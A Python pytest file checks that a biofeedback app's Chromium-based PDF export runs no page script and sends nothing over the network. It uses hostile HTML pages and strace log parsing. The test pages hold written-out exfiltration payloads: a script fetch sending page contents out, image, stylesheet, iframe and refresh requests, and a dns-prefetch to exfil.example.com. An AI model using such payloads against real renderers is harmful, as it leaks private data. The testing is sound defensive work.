"""The PDF export's Chromium runs no page script and reaches no network.

Proved two ways: ``report --format pdf`` under ``strace -f -yy -e trace=connect,...`` makes
no DNS query, no TCP connection outside loopback and AF_UNIX, and sends no byte to a peer
outside loopback (the one ``connect()`` outside loopback that remains is Chromium's UDP
route probe for IPv6, which puts no packet on the wire and is checked to carry no data);
and hostile pages
(script, images, style sheets, frames, prefetch, refresh pointing at a local listener)
printed by :func:`biofeedback.reports.pdf.html_to_pdf` send that listener nothing.
"""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from biofeedback.reports.pdf import find_chromium, html_to_pdf

from ..conftest import REPO
from ..support.hostile import PAYLOADS, hostile_store

pytestmark = pytest.mark.browser


def _need_chromium() -> str:
    exe = find_chromium()
    if exe is None:
        pytest.skip("no Chromium/Chrome for PDF printing")
    return exe


class _Listener:
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = int(self.sock.getsockname()[1])
        self.hits: list[bytes] = []
        self._stop = threading.Event()
        self._th = threading.Thread(target=self._run, daemon=True)
        self._th.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(1.0)
                try:
                    self.hits.append(conn.recv(4096) or b"(connected, sent nothing)")
                except OSError:
                    self.hits.append(b"(connected)")

    def close(self) -> None:
        self._stop.set()
        self._th.join(5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[_Listener]:
    lst = _Listener()
    yield lst
    lst.close()


def _exfil_page(port: int) -> str:
    url = f"http://127.0.0.1:{port}"
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url={url}/refresh">
<link rel="stylesheet" href="{url}/css"><link rel="prefetch" href="{url}/prefetch">
<link rel="dns-prefetch" href="//exfil.example.com"><link rel="preconnect" href="{url}">
<style>@import url("{url}/import"); @font-face {{ font-family: x; src: url("{url}/font"); }}
body {{ font-family: x; background: url("{url}/bg"); }}</style>
<script>fetch("{url}/fetch?" + encodeURIComponent(document.documentElement.outerHTML));
new Image().src = "{url}/img-js"; document.title = "JS RAN";</script>
</head><body><h1>Private HRV report</h1><p>RMSSD 42 ms</p>
<img src="{url}/img"><iframe src="{url}/frame"></iframe><object data="{url}/object"></object>
<video src="{url}/video"></video><script src="{url}/script.js"></script>
<script>document.write("<p>JS RAN</p>")</script>
<noscript><p>scripts are off</p></noscript></body></html>"""


def test_print_sandbox_sends_nothing_and_runs_no_script(
    tmp_path: Path, listener: _Listener
) -> None:
    exe = _need_chromium()
    page = tmp_path / "hostile.html"
    page.write_text(_exfil_page(listener.port), encoding="utf-8")
    pdf = tmp_path / "out.pdf"
    html_to_pdf(page, pdf, browser=exe)
    assert pdf.read_bytes()[:5] == b"%PDF-"
    assert listener.hits == []
    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert "Private HRV report" in text
        assert "JS RAN" not in text
        assert "scripts are off" in text  # <noscript> shows: JavaScript really is disabled


def test_hostile_session_pdf_sends_nothing(tmp_path: Path, listener: _Listener) -> None:
    _need_chromium()
    from biofeedback.cli import main

    url = f"http://127.0.0.1:{listener.port}"
    exfil = (
        f"<img src='{url}/img'>",
        f"<script>fetch('{url}/f?'+document.body.innerText)</script>",
        f"<link rel=stylesheet href='{url}/css'>",
        f"<iframe src='{url}/frame'></iframe>",
        f"<style>@import url('{url}/import')</style>",
        PAYLOADS[2],
        PAYLOADS[4],
    )
    db = hostile_store(tmp_path, exfil, "".join(exfil))
    out = tmp_path / "r.pdf"
    assert main(["report", "1", "--format", "pdf", "-o", str(out), "--db", str(db)]) == 0
    assert out.read_bytes()[:5] == b"%PDF-"
    assert listener.hits == []


_CALL = re.compile(r"^\d+ (connect|sendto|sendmsg|sendmmsg|write|writev)\((\d+)<(.*?)>[,)]")
_ADDR = re.compile(r"\{sa_family=(AF_INET6?)(.*?)\}")
_LOOPBACK = re.compile(r'inet_addr\("127\.|"::1"|"::ffff:127\.')
_PEER_LOOPBACK = re.compile(r"->(127\.|\[::1\]|\[::ffff:127\.)")


def _traffic_outside_loopback(log: str) -> tuple[list[str], list[str]]:
    """``(bad, probes)`` from an ``strace -f -yy`` log of connect and send/write calls.

    Bad: a DNS query (a connect to port 53, loopback included), a TCP connect outside
    loopback, and any data written to a socket whose peer is not loopback. Probes: a UDP
    ``connect()`` to a public address with nothing ever sent on it, which puts no packet on
    the wire (the kernel only picks a route); Chromium's network service makes one at start
    to learn whether IPv6 is routable.
    """
    bad: list[str] = []
    probes: list[str] = []
    for line in log.splitlines():
        m = _CALL.match(line)
        if m is None:
            continue
        call, fd_info = m.group(1), m.group(3)
        addr = _ADDR.search(line)
        if call == "connect":
            if addr is None:
                continue  # AF_UNIX, AF_NETLINK, AF_UNSPEC: not the network
            if "htons(53)" in addr.group(2):
                bad.append(f"DNS query: {line}")
            elif _LOOPBACK.search(addr.group(2)) is None:
                (probes if fd_info.startswith("UDP") else bad).append(line)
        elif (
            fd_info.startswith(("TCP", "UDP"))
            and "->" in fd_info
            and not _PEER_LOOPBACK.search(fd_info)
        ):
            bad.append(f"data sent off the machine: {line}")
        elif addr is not None and _LOOPBACK.search(addr.group(2)) is None:
            bad.append(f"datagram sent off the machine: {line}")
    return bad, probes


def test_traffic_parser() -> None:
    log = "\n".join(
        [
            '1 connect(5<UNIX-STREAM:[1]>, {sa_family=AF_UNIX, sun_path="/run/x"}, 32) = 0',
            '1 connect(9<TCP:[2]>, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("'
            '127.0.0.1")}, 16) = -1',
            '2 connect(7<UDP:[3]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("'
            '10.0.0.53")}, 16) = 0',
            "3 connect(8<UDPv6:[4]>, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=h"
            'tonl(0), inet_pton(AF_INET6, "2001:4860:4860::8888", &sin6_addr), sin6_scope_id=0}'
            ", 28) = 0",
            '4 write(8<UDPv6:[[::]:5000->[2001:4860:4860::8888]:443]>, "x", 1) = 1',
            '5 connect(6<TCP:[5]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("'
            '142.250.1.1")}, 16) = -1',
            '6 write(9<TCP:[127.0.0.1:4000->127.0.0.1:9]>, "GET", 3) = 3',
            '7 write(3</tmp/x.log>, "a->b", 4) = 4',
            "8 sendmsg(12<UNIX:[268298->268299]>, {msg_name=NULL}, MSG_NOSIGNAL) = 8",
        ]
    )
    bad, probes = _traffic_outside_loopback(log)
    assert len(probes) == 1 and "2001:4860" in probes[0]
    assert len(bad) == 3
    assert bad[0].startswith("DNS query") and "data sent off" in bad[1] and "142.250" in bad[2]


def test_pdf_export_connects_nowhere_under_strace(tmp_path: Path) -> None:
    _need_chromium()
    strace = shutil.which("strace")
    if strace is None:
        pytest.skip("strace not installed (apt-get install strace; .ci/run installs it)")
    db = hostile_store(tmp_path, PAYLOADS, "".join(PAYLOADS))
    log = tmp_path / "connect.log"
    out = tmp_path / "r.pdf"
    env = {**os.environ, "PYTHONPATH": str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    trace = [strace, "-f", "-qq", "-yy", "-e", f"trace={_TRACED}", "-o", str(log)]
    cmd = [sys.executable, "-m", "biofeedback", "report", "1", "--format", "pdf", "-o", str(out)]
    r = subprocess.run(
        [*trace, *cmd, "--db", str(db)],
        capture_output=True,
        text=True,
        cwd=REPO,
        env=env,
        timeout=240,
        stdin=subprocess.DEVNULL,
    )
    if r.returncode != 0 and "ptrace" in r.stderr.lower():
        pytest.skip(f"strace cannot trace here: {r.stderr.strip().splitlines()[-1]}")
    assert r.returncode == 0, r.stderr
    assert out.read_bytes()[:5] == b"%PDF-"
    bad, probes = _traffic_outside_loopback(log.read_text())
    assert bad == []
    assert len(probes) <= 4  # Chromium's IPv6 route probes only (see above); nothing sent


_TRACED = "connect,sendto,sendmsg,sendmmsg,write,writev"
